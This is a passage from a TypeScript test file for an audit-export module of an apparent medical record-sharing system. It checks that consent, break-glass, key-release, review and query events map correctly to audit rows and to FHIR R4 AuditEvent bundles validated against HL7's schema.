    const [a, b] = (other.entry ?? []).map((e) => e.resource.id);
    assert.ok(a !== undefined && b !== undefined && a !== b);
  });
});

describe('audit-export module', () => {
  it('loads nothing but zod, the browser-safe byte helpers and its own files', () => {
    for (const file of ['index', 'rows', 'schemas', 'errors', 'csv', 'json', 'fhir', 'fhir-types']) {
      const compiled = readFileSync(join(__dirname, `${file}.js`), 'utf8');
      const required = [...compiled.matchAll(/require\("([^"]+)"\)/g)].map((m) => m[1] ?? '');
      for (const module of required) {
        assert.ok(
          ['../../envelope/bytes', 'zod'].includes(module) || module.startsWith('./'),
          `${file} needs ${module}`,
        );
      }
      assert.doesNotMatch(compiled, /\bBuffer\b|node:/);
    }
  });
});

describe('record events (audit:RecordEvents)', () => {
  const event = (kind: RecordEvent['kind'], label: string, at: string, detail = ''): RecordEvent => ({
    docType: 'record-event',
    recordId: RECORD,
    kind,
    txId: tx(label),
    at,
    actorId: kind === 'review' ? AUDITOR : kind === 'breakGlass' ? ER_DOCTOR : RECIPIENT,
    actorMspId: 'HospitalBMSP',
    subjectId: kind === 'breakGlass' ? '' : ER_DOCTOR,
    detail,
  });

  it('gives each grant, revocation, opening, key share, key release and review a row of its own', () => {
    const events = [
      event('grant', 'grant', '2026-03-02T09:10:00Z', 'TREAT until 2026-04-01T00:00:00.000Z'),
      event('revoke', 'revoke', '2026-03-02T09:20:00Z'),
      event('breakGlass', 'open', '2026-03-02T09:30:00Z', 'UNCONSCIOUS until 2026-03-02T13:30:00.000Z'),
      event('keyRelease', 'share', '2026-03-02T09:31:00Z', 'share 1 of 2'),
      event('keyRelease', 'release', '2026-03-02T09:32:00Z', 'released'),
      event('review', 'review', '2026-03-03T09:00:00Z', 'justified'),
    ];
    const rows = toAuditRows(events);
    assert.deepEqual(
      rows.map((r) => [r.kind, r.actorRole, r.reason, r.emergency]),
      [
        ['grant', 'patient', 'access granted: TREAT until 2026-04-01T00:00:00.000Z', false],
        ['revoke', 'patient', 'access revoked', false],
        ['breakGlass', 'doctor', 'break-glass UNCONSCIOUS until 2026-03-02T13:30:00.000Z', true],
        ['keyRelease', 'admin', 'emergency key share contributed (share 1 of 2)', true],
        ['keyRelease', 'admin', 'emergency key released', true],
        ['review', 'auditor', 'review closed: justified', true],
      ],
    );
    const fhir = exportFhir(events) as unknown as { entry: { resource: { type: { code: string } } }[] };
    assert.deepEqual(
      fhir.entry.map((e) => e.resource.type.code),
      ['110136', '110136', '110113', '110113', '110113', '110113'],
    );
  });

  it('refuses a malformed event with its index and field', () => {
    assert.throws(
      () => toAuditRows([{ ...event('grant', 'bad', '2026-03-02T09:10:00Z'), kind: 'erase' }]),
      (e: unknown) => e instanceof AuditExportError && e.message.includes('kind'),
    );
  });
});

describe('exportFhir against the official FHIR R4 definitions', () => {
  // A third-party validator: ajv with HL7's JSON schema of FHIR R4 (no unknown elements, types, cardinality).
  const validator = new JSONSchemaValidator();
  const bundle = exportFhir([...ALL, ...history], { generatedAt: '2026-03-05T00:00:00Z' });

  it('writes a Bundle that the FHIR R4 JSON schema accepts, every event with it', () => {
    assert.deepEqual(validator.validate(bundle, true), []);
    assert.ok((bundle.entry?.length ?? 0) >= 10);
  });

  it('would be refused if an event broke the schema', () => {
    const breaks: ((event: Record<string, unknown>) => void)[] = [
      (event) => (event.action = 'X'),
      (event) => (event.recorded = 'yesterday'),
      (event) => (event.eventOutcome = '0'),
      (event) => delete event.agent,
    ];
    for (const [i, breakIt] of breaks.entries()) {
      const broken = structuredClone(bundle) as unknown as { entry: { resource: Record<string, unknown> }[] };
      const [first] = broken.entry;
      assert.ok(first);
      breakIt(first.resource);
      assert.notDeepEqual(validator.validate(broken, true), [], `break ${i}`);
    }
  });
});

describe('audit queries (audit:RecordQuery)', () => {
  const recordQuery: RecordEvent = {
    docType: 'record-event',
    recordId: RECORD,
    kind: 'query',
    txId: tx('query-record'),
    at: '2026-03-04T10:00:00Z',
    actorId: AUDITOR,
    actorMspId: 'ImagingMSP',
    subjectId: '',
    detail: 'record trail',
  };
  const userQuery: AuditQuery = {
    docType: 'audit-query',
    txId: tx('query-user'),
    at: '2026-03-04T10:05:00Z',
    auditorId: AUDITOR,
    auditorMspId: 'ImagingMSP',
    subjectId: ER_DOCTOR,
    from: '2026-03-01T00:00:00.000Z',
    to: '2026-03-05T00:00:00.000Z',
  };
  const bundle = exportFhir([recordQuery, userQuery], { generatedAt: '2026-03-05T00:00:00Z' });
  const events = (bundle.entry ?? []).map((entry) => entry.resource);

  it('codes a trail query as DICOM 110112 Query, the queried record or user as the Query entity', () => {
    assert.deepEqual(
      events.map((e) => [e.type.code, e.type.display, e.action, e.agent[0]?.who]),
      [
        ['110112', 'Query', 'E', { identifier: { system: 'urn:medshare:user', value: AUDITOR } }],
        ['110112', 'Query', 'E', { identifier: { system: 'urn:medshare:user', value: AUDITOR } }],
      ],
    );
    const queried = events.map((e) => e.entity.find((x) => x.role?.code === '24'));
    assert.deepEqual(
      queried.map((x) => [x?.what.identifier.value, x?.description]),
      [
        [RECORD, 'record trail queried'],
        [ER_DOCTOR, 'activity queried from 2026-03-01T00:00:00.000Z to 2026-03-05T00:00:00.000Z'],
      ],
    );
    assert.equal(events[1]?.agent.length, 1, 'the queried user is the object, not a participant');
    assert.deepEqual(new JSONSchemaValidator().validate(bundle, true), []);
  });
});
